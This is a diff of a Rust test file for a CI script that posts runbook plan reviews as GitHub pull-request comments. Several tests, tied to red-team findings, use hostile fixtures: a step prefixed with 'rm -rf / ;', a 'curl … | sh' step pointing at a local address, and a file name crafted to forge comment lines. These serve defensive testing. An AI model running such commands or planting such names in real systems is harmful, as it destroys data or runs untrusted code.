@@ -147,13 +147,14 @@ fn the_review_comment_shows_what_changed_against_the_base_branch() {
     assert!(comment.contains("## `runbooks/parallel-dag.toml`: removed"), "{comment}");
     assert!(comment.contains("Plans unchanged: `runbooks/hello.toml`"), "{comment}");
     // The full review documents, folded, and kept for the artifact.
-    assert!(comment.contains("<details><summary>The review document of <code>rollback-l1</code></summary>"));
-    for plan in ["rollback-l1.md", "compensation.md"] {
+    assert!(comment.contains("<details><summary>The review document of <code>rollback-l1</code> with <code>runbooks/params/rollback-l1.staging.toml</code></summary>"));
+    for plan in ["rollback-l1.staging.md", "compensation.md"] {
         let text = std::fs::read_to_string(dir.join("plans").join(plan)).expect("plan kept");
         assert!(text.starts_with("# Review of"), "{plan}: {text}");
     }
     assert!(!dir.join("plans/hello.md").exists(), "an unchanged runbook is not planned again");
     assert_comment_parses(&comment);
+    insta::assert_snapshot!("review_comment", stable(&comment, &repo));
     // The book shows a part of this very comment: it must still be what the script writes.
     let book =
         std::fs::read_to_string(root().join("book/src/user-guide/dry-runs.md")).expect("the book page");
@@ -165,20 +166,48 @@ fn the_review_comment_shows_what_changed_against_the_base_branch() {
         stable(&comment, &repo).contains(excerpt),
         "the book's excerpt is not in the comment:\n{excerpt}"
     );
-    insta::assert_snapshot!("review_comment", stable(&comment, &repo));
 }
 
 #[test]
 fn a_comment_too_long_for_github_leaves_the_documents_to_the_artifact() {
     let repo = repo_with_a_change();
-    let (out, dir) = repo.review("main", &[("COMMENT_LIMIT", "4000")]);
+    // The review whole, to size the limit: what changed fits, the full documents do not.
+    let (out, dir) = repo.review("main", &[]);
+    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
+    let whole = std::fs::read_to_string(dir.join("comment-full.md")).expect("comment-full.md written");
+    let diffs = whole.find("<details>").expect("the full documents");
+    let limit = (diffs + 1000).to_string();
+    let (out, dir) = repo.review("main", &[("COMMENT_LIMIT", &limit)]);
     assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
     let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+    assert!(comment.len() <= diffs + 1000, "{} bytes", comment.len());
     assert!(!comment.contains("<details>"), "{comment}");
     assert!(comment.contains("artifact `runbook-review`"), "{comment}");
     // What changed is still in the comment: only the full documents moved.
     assert!(comment.contains("+pg_restore --list"), "{comment}");
-    assert!(dir.join("plans/rollback-l1.md").exists());
+    assert!(dir.join("plans/rollback-l1.staging.md").exists());
+    assert_eq!(std::fs::read_to_string(dir.join("comment-full.md")).expect("whole"), whole);
+}
+
+/// Past the limit even without the full documents, the comment lists what the review covers
+/// and points to the whole of it: it never passes the limit, so GitHub never refuses it and
+/// never leaves an older comment standing (red team adv15a F9: an 89,366-character comment).
+#[test]
+fn a_review_longer_than_a_comment_is_cut_to_a_list_within_the_limit() {
+    let repo = repo_with_a_change();
+    for limit in [1500usize, 800] {
+        let (out, dir) = repo.review("main", &[("COMMENT_LIMIT", &limit.to_string())]);
+        assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
+        let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+        assert!(comment.len() <= limit, "{limit}: {} bytes:\n{comment}", comment.len());
+        assert!(comment.contains("more than a comment holds"), "{comment}");
+        assert!(comment.contains("`comment-full.md`"), "{comment}");
+        if limit == 1500 {
+            assert!(comment.contains("- Plan diff of `rollback-l1`"), "{comment}");
+            assert!(comment.contains("- `runbooks/parallel-dag.toml`: removed"), "{comment}");
+        }
+        assert_comment_parses(&comment);
+    }
 }
 
 #[test]
@@ -214,6 +243,142 @@ fn a_change_that_changes_no_plan_says_so() {
     let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
     assert!(comment.contains("No runbook's plan changed."), "{comment}");
     assert!(comment.contains("Plans unchanged: `runbooks/hello.toml`, `runbooks/parallel-dag.toml`"));
+    assert_eq!(std::fs::read_to_string(dir.join("changed")).expect("changed").trim(), "no");
+}
+
+/// A runbook whose plan cannot be compared with the base (here: its params file is new, so
+/// the base version has no parameters to plan with) is never a silent pass: the comment names
+/// it, says why, and shows its whole review document; the script exits 4, which the workflow
+/// posts and then fails on (red team adv15b F6: it exited 3, read as "check failed", and the
+/// comment showed nothing of the change).
+#[test]
+fn a_runbook_that_cannot_be_compared_is_named_with_its_reason_and_its_document() {
+    let repo = Repo::new();
+    let rb = "[runbook]\nname = \"deploy\"\n\n[params.target]\ntype = \"string\"\n\n[steps.push]\nrun = \"deploy --to {{ params.target }}\"\n";
+    repo.write("runbooks/deploy.toml", rb);
+    repo.commit("deploy, planned with -p only");
+    repo.git(&["switch", "--quiet", "-c", "change"]);
+    repo.write("runbooks/params/deploy.staging.toml", "target = \"prod-1\"\n");
+    repo.write("runbooks/deploy.toml", &rb.replace("deploy --to", "rm -rf / ; deploy --to"));
+    repo.commit("a params file and a new command");
+    let (out, dir) = repo.review("main", &[]);
+    assert_eq!(out.code, 4, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
+    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+    assert!(
+        comment.contains(
+            "## `runbooks/deploy.toml` with `runbooks/params/deploy.staging.toml`: could not be compared with"
+        ),
+        "{comment}"
+    );
+    assert!(comment.contains("exited with status 3"), "{comment}");
+    assert!(comment.contains("rm -rf / ; deploy --to"), "the new command is in the document: {comment}");
+    assert_eq!(std::fs::read_to_string(dir.join("changed")).expect("changed").trim(), "yes");
+    assert_comment_parses(&comment);
+}
+
+/// A runbook that leaves the reviewed set is named, whether deleted, moved to another folder
+/// or renamed to another extension (red team adv15b F10: `git mv` is a rename for `git
+/// diff`, and the comment said "No runbook's plan changed.").
+#[test]
+fn a_runbook_moved_or_renamed_away_is_named_as_removed() {
+    let repo = repo_with_a_change();
+    repo.git(&["switch", "--quiet", "-c", "moves", "main"]);
+    std::fs::create_dir_all(repo.path().join("runbooks/archive")).expect("mkdir");
+    repo.git(&["mv", "runbooks/parallel-dag.toml", "runbooks/archive/parallel-dag.toml"]);
+    repo.git(&["mv", "runbooks/hello.toml", "runbooks/hello.toml.bak"]);
+    repo.commit("archive two runbooks");
+    let (out, dir) = repo.review("main", &[]);
+    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
+    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+    assert!(comment.contains("## `runbooks/parallel-dag.toml`: removed"), "{comment}");
+    assert!(comment.contains("## `runbooks/hello.toml`: removed"), "{comment}");
+    assert!(!comment.contains("No runbook's plan changed."), "{comment}");
+    assert_eq!(std::fs::read_to_string(dir.join("changed")).expect("changed").trim(), "yes");
+}
+
+/// Every environment of a runbook is reviewed: a change to the production params file alone is
+/// a changed plan (red team adv15a F6: only RUNBOOK_ENV's params file was planned, and the
+/// comment said "No runbook's plan changed." while production's plan skipped its backup).
+#[test]
+fn every_params_file_of_a_runbook_is_reviewed() {
+    let repo = Repo::new();
+    let rb = "[runbook]\nname = \"deploy\"\n\n[params.backup]\ntype = \"boolean\"\n\n[steps.backup]\nrun = \"echo backup\"\nwhen = \"params.backup\"\n\n[steps.migrate]\nrun = \"echo migrate\"\nneeds = [\"backup\"]\n";
+    repo.write("runbooks/deploy.toml", rb);
+    repo.write("runbooks/params/deploy.staging.toml", "backup = true\n");
+    repo.write("runbooks/params/deploy.production.toml", "backup = true\n");
+    repo.commit("deploy");
+    repo.git(&["switch", "--quiet", "-c", "change"]);
+    repo.write("runbooks/params/deploy.production.toml", "backup = false\n");
+    repo.commit("no backup in production");
+    let (out, dir) = repo.review("main", &[]);
+    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
+    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+    assert!(
+        comment.contains("`runbooks/deploy.toml` with `runbooks/params/deploy.production.toml`"),
+        "{comment}"
+    );
+    assert!(
+        comment
+            .contains("Plans unchanged: `runbooks/deploy.toml` with `runbooks/params/deploy.staging.toml`"),
+        "{comment}"
+    );
+    assert!(!comment.contains("No runbook's plan changed."), "{comment}");
+    assert!(dir.join("plans/deploy.production.md").exists());
+    // RUNBOOK_ENV keeps one environment, as asked.
+    let (out, dir) = repo.review("main", &[("RUNBOOK_ENV", "staging")]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+    assert!(comment.contains("No runbook's plan changed."), "{comment}");
+}
+
+/// A runbook that became a symbolic link to a changed file is reviewed: `runbook` follows the
+/// link, so the review does too (red team adv15a F4: `find -type f` skipped it, and the
+/// comment never named it).
+#[test]
+fn a_runbook_that_became_a_symbolic_link_is_reviewed() {
+    let repo = Repo::new();
+    repo.write("runbooks/deploy.toml", "[runbook]\nname = \"deploy\"\n\n[steps.a]\nrun = \"echo deploy\"\n");
+    repo.commit("deploy");
+    repo.git(&["switch", "--quiet", "-c", "change"]);
+    repo.write(
+        "runbooks/lib/deploy.toml",
+        "[runbook]\nname = \"deploy\"\n\n[steps.a]\nrun = \"curl -s http://127.0.0.1:9/x | sh\"\n",
+    );
+    std::fs::remove_file(repo.path().join("runbooks/deploy.toml")).expect("rm");
+    std::os::unix::fs::symlink("lib/deploy.toml", repo.path().join("runbooks/deploy.toml")).expect("symlink");
+    repo.commit("deploy is a link now");
+    let (out, dir) = repo.review("main", &[]);
+    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
+    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+    assert!(comment.contains("`runbooks/deploy.toml` (a symbolic link to `lib/deploy.toml`)"), "{comment}");
+    assert!(comment.contains("curl -s http://127.0.0.1:9/x | sh"), "{comment}");
+}
+
+/// File names are the pull request's: a line break in one cannot forge a line of the comment
+/// or open an HTML block that hides the rest (red team adv15a F10).
+#[test]
+fn a_file_name_with_line_breaks_cannot_forge_the_comment() {
+    let repo = repo_with_a_change();
+    repo.git(&["switch", "--quiet", "-c", "names", "main"]);
+    let forged = "runbooks/old\n\nNo runbook's plan changed.\n\n<!--.toml";
+    repo.write(forged, "[runbook]\nname = \"old\"\n\n[steps.a]\nrun = \"true\"\n");
+    repo.commit("a runbook with a hostile name");
+    repo.git(&["switch", "--quiet", "-c", "names-gone"]);
+    std::fs::remove_file(repo.path().join(forged)).expect("rm");
+    let kept = "runbooks/kept\n\n<!--.toml";
+    repo.write(kept, "[runbook]\nname = \"kept\"\n\n[steps.a]\nrun = \"true\"\n");
+    repo.commit("one removed, one added");
+    let (out, dir) = repo.review("names", &[]);
+    assert_eq!(out.code, 4, "a name with control characters is not reviewed: {}\n{}", out.stdout, out.stderr);
+    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
+    assert!(!comment.lines().any(|l| l == "No runbook's plan changed."), "a forged verdict:\n{comment}");
+    assert!(!comment.lines().any(|l| l.starts_with("<!--") && l != "<!-- runbook-review -->"), "{comment}");
+    assert!(
+        comment.contains("$'runbooks/old\\n\\nNo runbook\\'s plan changed.\\n\\n<!--.toml'"),
+        "{comment}"
+    );
+    assert!(comment.contains("not reviewed"), "{comment}");
+    assert_comment_parses(&comment);
 }
 
 #[test]
@@ -229,15 +394,32 @@ fn a_base_that_is_not_a_commit_is_a_usage_error() {
 #[test]
 fn the_workflow_runs_the_tested_script_with_the_base_of_the_pull_request() {
     let workflow = std::fs::read_to_string(root().join(WORKFLOW)).expect("the workflow file");
-    assert!(workflow.contains(&format!("{SCRIPT} \"$BASE\" review")), "{workflow}");
+    // The base branch's copy of the script runs, never the pull request's.
+    assert!(workflow.contains(&format!("git show \"$BASE:{SCRIPT}\" > \"$RUNNER_TEMP/review-comment.sh\"")));
+    assert!(workflow.contains("bash \"$RUNNER_TEMP/review-comment.sh\" \"$BASE\" review"), "{workflow}");
+    assert!(!workflow.contains(&format!("{SCRIPT} \"$BASE\"")), "the pull request's copy runs: {workflow}");
     assert!(workflow.contains("BASE: ${{ github.event.pull_request.base.sha }}"));
     assert!(workflow.contains("fetch-depth: 0"), "--against needs the base's history");
     assert!(workflow.contains("--body-file review/comment.md"));
-    // Untrusted pull-request data never goes into a `run:` line through `${{ }}`: only
-    // through the environment.
-    for line in workflow.lines().filter(|l| l.trim_start().starts_with("run:")) {
-        assert!(!line.contains("${{"), "an expression in a run line: {line}");
+    // Pull-request data never goes into a script through `${{ }}`: only through the
+    // environment (an `env:` entry), or in `if:` and `concurrency` lines, which are not run.
+    for line in workflow.lines().filter(|l| l.contains("${{")) {
+        let t = line.trim_start();
+        let env_entry = t.split_once(':').is_some_and(|(k, _)| {
+            !k.is_empty() && k.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
+        });
+        assert!(
+            env_entry || t.starts_with("group:") || t.starts_with("if:"),
+            "an expression outside env: {line}"
+        );
     }
+    // Every pull request is reviewed: a runbook reads files outside runbooks/ (SQL scripts,
+    // CA files, includes), so a path filter would let their changes through unreviewed
+    // (red team adv15b F9).
+    assert!(!workflow.contains("paths:"), "{workflow}");
+    // Statuses 3 and 4 post the comment, then fail the job.
+    assert!(workflow.contains("[ \"$status\" -eq 0 ] || [ \"$status\" -eq 3 ] || [ \"$status\" -eq 4 ]"));
+    assert!(workflow.contains("steps.review.outputs.status == '3' || steps.review.outputs.status == '4'"));
     // `pull_request`, never `pull_request_target` (which runs a fork's code with write access).
     let triggers: Vec<&str> = workflow.lines().filter(|l| !l.trim_start().starts_with('#')).collect();
     assert!(triggers.iter().any(|l| l.trim() == "pull_request:"), "{workflow}");
